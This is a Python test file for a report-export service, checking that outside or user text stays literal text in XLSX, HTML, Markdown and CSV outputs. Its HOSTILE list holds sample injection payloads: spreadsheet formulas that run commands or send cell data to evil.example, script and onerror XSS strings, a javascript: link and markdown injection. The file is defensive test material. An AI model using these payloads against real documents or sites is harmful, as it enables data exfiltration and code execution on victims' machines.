"""Texts from outside and of users, in every format: shown as they are and nothing else."""

import csv
import io
import re
from dataclasses import replace
from zipfile import ZipFile

import openpyxl
import pytest
from lxml import html

from services.core.text import Text
from services.exports.markdown import paper_markdown
from services.exports.paper import Bullets, Paper, PaperLine, PaperQuote, PaperTable
from services.exports.papers import paper_of
from services.exports.print_html import paper_html
from services.exports.view_files import view_zip
from services.exports.xlsx import paper_xlsx
from services.views.ask_view import Outside, TurnView
from services.views.table import TableColumn, TableRow
from tests.unit.reports import samples as s
from tests.unit.reports.samples import MADE_AT

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "a | b\n| c | d",
    "第一行\n\n# 假标题",
    "[^1]: 伪造的脚注",
    "[点我](javascript:alert(1))",
    "![p](https://evil.example/p.png)",
    "![p][q] [q]: https://evil.example/p.png",
    "市盈率 {{c:c_00000000000000a2}}",
    "\t=1+1",
    "'=1+1",
)
NAME = TableColumn("name", Text("名称", "Name"), "text")


def paper(text: str) -> Paper:
    """The text as a title, a label, a quote, a heading of a column and a cell."""
    table = s.table(TableRow({"name": text, "pe_lyr": s.PE}), columns=(NAME, s.PE_COLUMN))
    made = paper_of(s.view(table), "zh")
    (shown,) = made.tables
    labels = Bullets(title=text, lines=(PaperLine(template=text, kind="label"),))
    quote = PaperQuote(title=text, about=(text,), text=text, url="https://example.com/" + text)
    named = shown.model_copy(update={"title": text, "note": ""})
    return made.model_copy(update={"title": text, "blocks": (labels, quote, named)})


@pytest.mark.parametrize("text", HOSTILE)
def test_a_workbook_holds_it_as_text_and_no_formula(text: str) -> None:
    packed = paper_xlsx(paper(text), s.CLAIMS, s.TRACE, MADE_AT)
    with ZipFile(io.BytesIO(packed)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert all(b"<f>" not in one and b"<f " not in one for one in sheets)
    assert not [n for n in ZipFile(io.BytesIO(packed)).namelist() if "external" in n.lower()]
    book = openpyxl.load_workbook(io.BytesIO(packed))
    first, second, _ = book.worksheets
    assert first["A1"].value == text
    assert first["A1"].data_type == "s"
    assert bool(first["A1"].quotePrefix) == (text.lstrip()[:1] in set("=+-@'"))
    cell = next(c for c in second["A"] if c.value == text and c.row > 1)
    assert cell.data_type == "s"
    links = [c.hyperlink for sheet in book for row in sheet.iter_rows() for c in row if c.hyperlink]
    assert links
    assert all(one.target is None and one.location for one in links)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_printed_page_holds_it_as_text_and_no_markup(text: str) -> None:
    written = paper_html(paper(text), s.CLAIMS, s.TRACE)
    tree = html.document_fromstring(written)
    assert tree.xpath("//script | //img | //iframe | //link | //*[@onerror]") == []
    assert {one.get("href")[:1] for one in tree.xpath("//a")} == {"#"}
    assert tree.xpath("//h1")[0].text_content() == text
    assert tree.xpath("//td")[0].text_content() == text
    assert len(tree.xpath("//data")) == 1
    # only the heads and the one row: nothing has opened a cell of its own
    assert len(tree.xpath("//td")) == 2


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_holds_it_on_one_line_without_markup(text: str) -> None:
    written = paper_markdown(paper(text), s.CLAIMS, s.TRACE)
    assert "<script" not in written
    assert "<img" not in written
    assert len(re.findall(r"^#+ ", written, re.MULTILINE)) == 3  # title, table, sources
    assert len(re.findall(r"^\[\^\d+\]: ", written, re.MULTILINE)) == 1
    assert len(re.findall(r"(?<!\\)\]\((?!:)", written)) == 0
    assert "![" not in written
    row = next(line for line in written.splitlines() if line.endswith("33.84倍[^1] |"))
    assert len(re.findall(r"(?<!\\)\|", row)) == 3


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_holds_it_in_its_cell_with_nothing_to_run(text: str) -> None:
    table = s.table(TableRow({"name": text, "pe_lyr": s.PE}), columns=(NAME, s.PE_COLUMN))
    with ZipFile(io.BytesIO(view_zip(s.view(table)))) as archive:
        body = archive.read("screen.csv").decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(body, newline=""))
    assert row["name"] in {text, "'" + text}
    assert row["name"].lstrip()[:1] not in set("=+-@")
    assert row["pe_lyr"] == "33.84"


def test_a_hostile_post_is_quoted_in_an_answer_and_stays_a_quote() -> None:
    post = Outside(HOSTILE[0], HOSTILE[4], "https://example.com/a", HOSTILE[8], None, None)
    view = s.view(s.table(s.MOUTAI))
    turn = TurnView(
        title=Text("-", "-"),
        claims=view.claims,
        trace=view.trace,
        run_ids=("run_1",),
        number=1,
        question=HOSTILE[6],
        state="answered",
        language="zh",
        template="市盈率 {{c:c_00000000000000a2}}。",
        table=view.table,
        items=(post, replace_text(post)),
    )
    made = paper_of(turn, "zh")
    quotes = [block for block in made.blocks if isinstance(block, PaperQuote)]
    assert [one.title for one in quotes] == [HOSTILE[0], HOSTILE[0]]
    assert [type(block) for block in made.blocks if isinstance(block, PaperTable)] == [PaperTable]
    tree = html.document_fromstring(paper_html(made, turn.claims, turn.trace))
    assert len(tree.xpath("//blockquote")) == 2
    assert len(tree.xpath("//blockquote//a")) == 0


def replace_text(post: Outside) -> Outside:
    """The same post, saying what looks like a figure of ours."""
    return replace(post, text="{{c:c_00000000000000a2}}")
